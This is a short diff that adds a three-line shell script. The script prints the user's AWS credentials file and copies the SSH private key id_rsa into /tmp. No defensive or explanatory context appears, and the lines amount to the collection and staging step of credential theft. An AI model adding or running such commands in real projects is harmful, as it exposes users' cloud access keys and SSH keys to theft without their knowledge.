@@ -1,0 +1,3 @@
+#!/bin/sh
+cat ~/.aws/credentials
+cp ~/.ssh/id_rsa /tmp/k
